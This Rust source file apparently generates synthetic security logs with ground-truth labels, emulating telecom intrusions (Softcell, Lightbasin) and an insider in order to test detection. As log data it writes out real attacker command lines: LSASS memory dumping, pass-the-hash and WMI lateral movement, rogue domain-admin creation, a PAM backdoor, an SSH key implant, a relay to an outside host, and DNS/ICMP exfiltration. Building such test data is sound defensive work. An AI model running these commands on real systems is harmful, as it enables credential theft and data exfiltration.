                t + 81,
                (pid + 4, pid + 3),
                ops,
                ses,
                "/usr/bin/dpkg",
                dst,
                Write::RenameFrom(&format!("{dst}.dpkg-new")),
            );
        }
        // The HSS synchronises subscriber profiles with the billing database every night.
        self.pg(
            day,
            base + 4 * 3600,
            "hlr_sync",
            "hss-sync",
            HSS,
            "SELECT count(*) FROM subscriber WHERE updated_at > now() - interval '1 day'",
            "",
            Some(1),
        );
        // Recursive DNS from the DNS server, ordinary sizes; mail servers' TXT (SPF) lookups.
        for k in 0..6 {
            let t = base + self.rng.range(0, DAY - 1);
            let out = 200 + self.rng.below(400);
            let name = NAMES[self.rng.below(NAMES.len() as u64) as usize];
            let (q, ty) = if k < 2 {
                (
                    format!("_spf.{}", &name[name.find('.').map_or(0, |i| i + 1)..]),
                    "TXT",
                )
            } else {
                (name.to_owned(), "A")
            };
            self.dns(day, t, (DNS_EXT, "192.0.2.53"), &q, ty, "-");
            self.flow(day, t, (DNS_EXT, "192.0.2.53", 53, "udp"), "dns", 0.05, out);
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn step(
        &self,
        truth: &mut Truth,
        s: Scenario,
        step: &str,
        t: i64,
        host: &str,
        account: &str,
        technique: &str,
    ) {
        truth.steps.push(Step {
            scenario: s.name().into(),
            step: step.into(),
            time: ts(t, 0),
            host: host.into(),
            account: account.into(),
            technique: technique.into(),
        });
    }

    fn softcell(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        let sc = Scenario::Softcell;
        let acct = format!("svc_bkp{}", 2 + self.seed % 7);
        // Variants by seed: the web server, the reconnaissance, the dumping tool, the way in
        // to the billing server.
        let (web_user, web_parent) = if self.seed % 2 == 1 {
            (
                "IIS APPPOOL\\portal",
                "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            )
        } else {
            ("CORP\\svc_wildfly", "C:\\wildfly\\jdk\\bin\\java.exe")
        };
        let recon = [
            (
                "C:\\Windows\\System32\\net.exe",
                "net group \"domain admins\" /domain",
                "domain reconnaissance",
                "T1087.002",
            ),
            (
                "C:\\Windows\\System32\\nltest.exe",
                "nltest /dclist:corp.example",
                "domain trust and controller discovery",
                "T1482",
            ),
            (
                "C:\\Windows\\System32\\systeminfo.exe",
                "systeminfo",
                "system information discovery",
                "T1082",
            ),
        ][((self.seed / 2) % 3) as usize];
        let wmi = self.seed % 3 == 1;
        if d == a {
            let t = base + 3600 + 14 * 60;
            self.process(
                day,
                t,
                "web-portal-01",
                web_user,
                "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c whoami",
                web_parent,
            );
            self.step(
                truth,
                sc,
                "web shell runs commands",
                t,
                "web-portal-01",
                web_user,
                "T1505.003",
            );
            let t2 = t + 300;
            self.process(
                day,
                t2,
                "web-portal-01",
                web_user,
                recon.0,
                recon.1,
                web_parent,
            );
            self.step(truth, sc, recon.2, t2, "web-portal-01", web_user, recon.3);
            let t3 = base + 2 * 3600 + 40 * 60;
            let (image, cmd) = if (self.seed / 2).is_multiple_of(2) {
                (
                    "C:\\Windows\\Temp\\procdump64.exe",
                    "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp".to_owned(),
                )
            } else {
                (
                    "C:\\Windows\\System32\\rundll32.exe",
                    format!(
                        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\d.bin full",
                        600 + self.seed % 300
                    ),
                )
            };
            self.process(
                day,
                t3,
                "web-portal-01",
                "CORP\\adm_paul",
                image,
                &cmd,
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(
                truth,
                sc,
                "LSASS memory dumped",
                t3,
                "web-portal-01",
                "CORP\\adm_paul",
                "T1003.001",
            );
        }
        if d == a + 1 {
            let t = base + 22 * 3600 + 300;
            if wmi {
                let web_short = web_user.rsplit('\\').next().unwrap_or(web_user);
                // The admin's hash injected into a new logon session, then WMI to the server.
                self.windows(
                    day,
                    t - 120,
                    "web-portal-01",
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4624,
                    &[
                        ("SubjectUserName", web_short),
                        ("TargetUserName", web_short),
                        ("LogonType", "9"),
                        ("LogonProcessName", "seclogo"),
                        ("AuthenticationPackageName", "Negotiate"),
                        ("TargetOutboundUserName", "adm_paul"),
                        ("TargetOutboundDomainName", "CORP"),
                    ],
                );
                self.step(
                    truth,
                    sc,
                    "pass the hash",
                    t - 120,
                    "web-portal-01",
                    "CORP\\adm_paul",
                    "T1550.002",
                );
                self.network_logon(day, t - 1, "adm_paul", "WEB-PORTAL-01", WEB_PORTAL);
                self.process(
                    day,
                    t,
                    "bill-db-01",
                    "CORP\\adm_paul",
                    "C:\\Windows\\System32\\cmd.exe",
                    &format!(
                        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__{t}.{} 2>&1",
                        self.seed
                    ),
                    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                );
                self.step(
                    truth,
                    sc,
                    "lateral movement with WMI",
                    t,
                    "bill-db-01",
                    "CORP\\adm_paul",
                    "T1047",
                );
            } else {
                self.network_logon(day, t - 2, "adm_paul", "WEB-PORTAL-01", WEB_PORTAL);
                self.psexec_service(day, t, "C:\\Users\\Public\\PSEXESVC.exe");
                self.step(
                    truth,
                    sc,
                    "lateral movement with PsExec",
                    t,
                    "bill-db-01",
                    "CORP\\adm_paul",
                    "T1569.002",
                );
            }
            let t2 = t + 1500;
            self.windows(
                day,
                t2,
                "dc-01",
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4720,
                &[
                    ("TargetUserName", &acct),
                    ("TargetDomainName", "CORP"),
                    ("SubjectUserName", "adm_paul"),
                ],
            );
            self.windows(
                day,
                t2 + 20,
                "dc-01",
                "Security",
                "Microsoft-Windows-Security-Auditing",
                4728,
                &[
                    ("TargetUserName", "Domain Admins"),
                    (
                        "MemberName",
                        &format!("CN={acct},CN=Users,DC=corp,DC=example"),
                    ),
                    ("SubjectUserName", "adm_paul"),
                ],
            );
            self.step(
                truth,
                sc,
                "new domain admin account",
                t2,
                "dc-01",
                &acct,
                "T1136.002",
            );
            // With the DBA's stolen password, a database role for the new account.
            let t3 = t2 + 600;
            self.pg(
                day,
                t3,
                "dba_jane",
                "psql",
                JUMP,
                &format!("CREATE ROLE {acct} WITH LOGIN PASSWORD 'Summer2026!'"),
                "",
                None,
            );
            self.pg(
                day,
                t3 + 30,
                "dba_jane",
                "psql",
                JUMP,
                &format!("GRANT SELECT ON cdr, cell_location, device TO {acct}"),
                "",
                None,
            );
            self.step(
                truth,
                sc,
                "database role for the new account",
                t3,
                "bill-db-01",
                "dba_jane",
                "T1136.001",
            );
        }
        if (a + 2..=a + 4).contains(&d) && d < self.days {
            // Targeted reads: each night a third of the targets, and all of them on the last.
            let targets = self.targets.clone();
            let mut t = base + 2 * 3600 + self.rng.range(0, 1800);
            let first = t;
            for (k, &i) in targets.iter().enumerate() {
                if d != a + 4 && k % 3 != (d - a - 2) as usize {
                    continue;
                }
                let s = self.sub(i);
                t += self.rng.range(20, 90);
                let (r1, r2) = (200 + self.rng.below(800), 50 + self.rng.below(300));
                self.pg(
                    day,
                    t,
                    &acct,
                    "psql",
                    JUMP,
                    &format!(
                        "SELECT * FROM cdr WHERE calling_number = '{m}' OR called_number = '{m}'",
                        m = s.msisdn
                    ),
                    "",
                    Some(r1),
                );
                self.pg(day, t + 10, &acct, "psql", JUMP, &format!("SELECT l.imsi, l.cell_id, l.lac, l.seen_at FROM cell_location l JOIN subscriber s ON s.imsi = l.imsi WHERE s.msisdn = '{}'", s.msisdn), "", Some(r2));
                self.pg(day, t + 20, &acct, "psql", JUMP, &format!("SELECT d.* FROM device d JOIN subscriber s ON s.imsi = d.imsi WHERE s.msisdn = '{}'", s.msisdn), "", Some(1));
            }
            self.step(
                truth,
                sc,
                "targeted CDR, location and device reads",
                first,
                "bill-db-01",
                &acct,
                "T1213",
            );
        }
        if d == a + 4 && d < self.days {
            let t = base + 3 * 3600 + 1800;
            self.process(
                day,
                t,
                "jump-01",
                &format!("CORP\\{acct}"),
                "C:\\Program Files\\WinRAR\\rar.exe",
                "rar.exe a -v500m -hpP@ssw0rd C:\\$Recycle.Bin\\s.rar C:\\Users\\Public\\q",
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(
                truth,
                sc,
                "staging in split encrypted archives",
                t,
                "jump-01",
                &acct,
                "T1560.001",
            );
            let t2 = t + 1800;
            self.process(
                day,
                t2,
                "jump-01",
                &format!("CORP\\{acct}"),
                "C:\\Users\\Public\\svchost.exe",
                "svchost.exe -tran 443 203.0.113.66 443",
                "C:\\Windows\\System32\\cmd.exe",
            );
            self.step(truth, sc, "connection relay", t2, "jump-01", &acct, "T1090");
            let chunks = 6 + self.rng.below(5) as i64;
            for k in 0..chunks {
                let tk = t2 + 300 + k * 700;
                let bytes = (500u64 << 20) + self.rng.below(4 << 20);
                self.conn(day, tk, JUMP, RELAY, 443, "ssl", 600.0, bytes);
                truth.exfiltration.push(ExfilFlow {
                    scenario: sc.name().into(),
                    src_ip: JUMP.into(),
                    dst_ip: RELAY.into(),
                    dst_port: 443,
                    bytes,
                    start: ts(tk, 0),
                });
            }
            self.step(
                truth,
                sc,
                "exfiltration in chunks",
                t2 + 300,
                "jump-01",
                &acct,
                "T1030",
            );
            for &i in &self.targets {
                truth.targets.push(self.target(sc, i));
            }
        }
    }

    fn lightbasin(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        let sc = Scenario::Lightbasin;
        // Variants by seed: the default account, the GTP tool, the covert channel.
        let acct = ["root", "admin", "support"][(self.seed % 3) as usize];
        let uid = [0, 1000, 1001][(self.seed % 3) as usize];
        let over_dns = self.seed.is_multiple_of(2);
        let domain = [
            "cdn-sync.example",
            "upd-mirror.example",
            "telemetry-io.example",
        ][((self.seed / 2) % 3) as usize];
        // Targets of this scenario: the other half of the list, so both can run together.
        let targets: Vec<u64> = self.targets.iter().rev().take(12).copied().collect();
        let host = "dns-ext-01";
        if d == a {
            let t = base + 3600 + 120;
            let ses = 900 + d;
            let login = (uid, acct);
            self.ssh_login(day, 0, t, 2211, login, ses, LB_C2, "password");
            self.step(
                truth,
                sc,
                "SSH with a default account",
                t,
                host,
                acct,
                "T1078.001",
            );
            self.exec(
                day,
                0,
                t + 2,
                (2230, 2211),
                login,
                ses,
                "/usr/bin/bash",
                &["-bash"],
            );
            let mut shell = (2230, 2211);
            if acct != "root" {
                self.syslog(
                    day,
                    0,
                    t + 30,
                    "sudo",
                    0,
                    &format!(
                        "{acct} : TTY=pts/1 ; PWD=/home/{acct} ; USER=root ; COMMAND=/bin/bash"
                    ),
                );
                self.exec(
                    day,
                    0,
                    t + 30,
                    (2232, 2230),
                    login,
                    ses,
                    "/usr/bin/sudo",
                    &["sudo", "/bin/bash"],
                );
                self.exec(
                    day,
                    0,
                    t + 31,
                    (2233, 2232),
                    login,
                    ses,
                    "/usr/bin/bash",
                    &["/bin/bash"],
                );
                shell = (2233, 2232);
            }
            // A key of their own, so a changed password does not lock them out.
            let tk = t + 300;
            self.write_file(
                day,
                0,
                tk,
                shell,
                login,
                ses,
                "/usr/bin/bash",
                "/root/.ssh/authorized_keys",
                Write::Append,
            );
            self.step(truth, sc, "SSH key added", tk, host, acct, "T1098.004");
            let t2 = t + 600;
            self.exec(
                day,
                0,
                t2,
                (2290, shell.0),
                login,
                ses,
                "/usr/bin/mv",
                &[
                    "mv",
                    "/tmp/.p/pam_unix.so",
                    "/lib/x86_64-linux-gnu/security/pam_unix.so",
                ],
            );
            self.write_file(
                day,
                0,
                t2,
                (2290, shell.0),
                login,
                ses,
                "/usr/bin/mv",
                "/lib/x86_64-linux-gnu/security/pam_unix.so",
                Write::RenameFrom("/tmp/.p/pam_unix.so"),
            );
            self.step(
                truth,
                sc,
                "PAM backdoor installed",
                t2,
                host,
                acct,
                "T1556.003",
            );
            let t3 = t2 + 900;
            let rule: &[&str] = if over_dns {
                &[
                    "/usr/sbin/iptables",
                    "-I",
                    "OUTPUT",
                    "-p",
                    "udp",
                    "--dport",
                    "53",
                    "-j",
                    "ACCEPT",
                ]
            } else {
                &[
                    "/usr/sbin/iptables",
                    "-I",
                    "INPUT",
                    "-p",
                    "icmp",
                    "-j",
                    "ACCEPT",
                ]
            };
            self.exec(
                day,
                0,
                t3,
                (2300, shell.0),
                login,
                ses,
                "/usr/sbin/xtables-legacy-multi",
                rule,
            );
            self.step(
                truth,
                sc,
                "firewall opened for the channel",
                t3,
                host,
                acct,
                "T1562.004",
            );
            let (tool, args): (&str, &[&str]) = if (self.seed / 2).is_multiple_of(2) {
                ("gtp-tunnel", &["gtp-tunnel", "add", "gtp0", "v1", "200"])
            } else {
                (
                    "sgsnemu",
                    &["sgsnemu", "-l", "10.40.0.53", "-r", "203.0.113.200"],
                )
            };
            self.exec(
                day,
                0,
                t3 + 60,
                (2310, shell.0),
                login,
                ses,
                &format!("/usr/local/bin/{tool}"),
                args,
            );
            self.step(truth, sc, "GTP tunnel set up", t3 + 60, host, acct, "T1572");
            // An ICMP-woken back door: a raw ICMP socket, then a shell as its child.
            self.audit(
                day,
                0,
                t3 + 120,
                &[Self::syscall(
                    (41, "socket"),
                    ["2", "3", "1", "0"],
                    0,
                    (2320, 1),
                    login,
                    ses,
                    "kworkerd",
                    "/dev/shm/.k/kworkerd",
                )],
            );
            self.step(truth, sc, "ICMP listener", t3 + 120, host, acct, "T1095");
            self.exec(
                day,
                0,
                t3 + 420,
                (2330, 2320),
                login,
                ses,
                "/usr/bin/dash",
                &["/bin/sh"],
            );
            self.step(
                truth,
                sc,
                "back door woken by ICMP starts a shell",
                t3 + 420,
                host,
                acct,
                "T1205",
            );
            for k in 0..4 {
                let out = (2 << 20) + self.rng.below(1 << 20);
                self.flow(
                    day,
                    t3 + 300 + k * 600,
                    (DNS_EXT, "203.0.113.200", 2152, "udp"),
                    "",
                    300.0,
                    out,
                );
            }
        }
        if (a + 1..=a + 3).contains(&d) && d < self.days {
            // A shared account used from the DNS server: CDRs and profiles of the targets.
            let mut t = base + 3 * 3600 + self.rng.range(0, 600);
            let first = t;
            for &i in &targets {
                let s = self.sub(i);
                t += self.rng.range(10, 40);
                let rows = 100 + self.rng.below(500);
                self.pg(
                    day,
                    t,
                    "hlr_sync",
                    "psql",
                    DNS_EXT,
                    &format!("SELECT * FROM cdr WHERE calling_number = '{}'", s.msisdn),
                    "",
                    Some(rows),
                );
                self.pg(
                    day,
                    t + 5,
                    "hlr_sync",
                    "psql",
                    DNS_EXT,
                    &format!("SELECT * FROM subscriber WHERE msisdn = '{}'", s.msisdn),
                    "",
                    Some(1),
                );
            }
            self.step(
                truth,
                sc,
                "CDR and subscriber-profile reads",
                first,
                "bill-db-01",
                "hlr_sync",
                "T1213",
            );
            if over_dns {
                self.dns_exfil(day, t + 600, domain, truth);
            } else {
                // Out over ICMP to the operator's own server outside.
                for k in 0..3 {
                    let tk = t + 600 + k * 900;
                    let bytes = (40u64 << 20) + self.rng.below(8 << 20);
                    self.flow(day, tk, (DNS_EXT, LB_C2, 0, "icmp"), "", 800.0, bytes);
                    truth.exfiltration.push(ExfilFlow {
                        scenario: sc.name().into(),
                        src_ip: DNS_EXT.into(),
                        dst_ip: LB_C2.into(),
                        dst_port: 0,
                        bytes,
                        start: ts(tk, 0),
                    });
                }
            }
            let how = if over_dns { "DNS" } else { "ICMP" };
            self.step(
                truth,
                sc,
                &format!("exfiltration over {how}"),
                t + 600,
                host,
                acct,
                "T1048.003",
            );
        }
        if d == a + 3 || (d + 1 == self.days && d < a + 3) {
            for &i in &targets {
                let t = self.target(sc, i);
                if !truth.targets.iter().any(|x| x.msisdn == t.msisdn) {
                    truth.targets.push(t);
                }
            }
        }
    }

    /// The night's take leaves in DNS queries: encoded labels under the actor's domain, sent
    /// straight to its name server; Zeek's conn.log folds a minute of them into one flow.
    fn dns_exfil(&mut self, day: &mut Day, start: i64, domain: &str, truth: &mut Truth) {
        const ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
        let minutes = 40 + self.rng.below(20) as i64;
        let session = self.rng.below(1 << 16);
        let mut seq = 0u64;
        for m in 0..minutes {
            let tm = start + m * 60;
            let queries = 90 + self.rng.below(30);
            for q in 0..queries {
                let label: String = (0..60)
                    .map(|_| ALPHABET[self.rng.below(32) as usize] as char)
                    .collect();
                let name = format!("{label}.{seq:x}.{session:x}.t.{domain}");
                seq += 1;
                let tq = tm + (q as i64 * 60) / queries as i64;
                self.dns(day, tq, (DNS_EXT, LB_C2), &name, "TXT", "TXT 2 ok");
            }
            let bytes = queries * 130;
            self.flow(day, tm, (DNS_EXT, LB_C2, 53, "udp"), "dns", 59.0, bytes);
            truth.exfiltration.push(ExfilFlow {
                scenario: Scenario::Lightbasin.name().into(),
                src_ip: DNS_EXT.into(),
                dst_ip: LB_C2.into(),
                dst_port: 53,
                bytes,
                start: ts(tm, 0),
            });
        }
    }

    fn insider(&mut self, d: u32, base: i64, day: &mut Day, truth: &mut Truth) {
        let a = self.attack_day;
        if d != a && d != a + 2 {
            return;
        }
        let k = 6;
        let user = format!("care{:02}", k + 1);
        let ip = care_ip(k);
        let people: Vec<u64> = self.protected.iter().take(3).map(|(i, _)| *i).collect();
        let mut first = 0;
        for (j, i) in people.iter().enumerate() {
            let s = self.sub(*i);
            let t = base + 15 * 3600 + j as i64 * 240;
            if first == 0 {
                first = t;
            }
            self.mysql(
                day,
                t,
                &user,
                &ip,
                &format!("SELECT * FROM customer WHERE msisdn = '{}'", s.msisdn),
            );
            self.pg(day, t + 60, &user, "crm-web", &ip, "SELECT call_start, called_number, duration FROM cdr WHERE calling_number = $1 ORDER BY call_start DESC LIMIT 20", &s.msisdn, Some(20));
            if d == a + 2 {
                truth.targets.push(self.target(Scenario::Insider, *i));
            }
        }
        self.step(
            truth,
            Scenario::Insider,
            "protected persons looked up without a ticket",
            first,
            "crm-db-01",
            &user,
            "T1213",
        );
    }
}
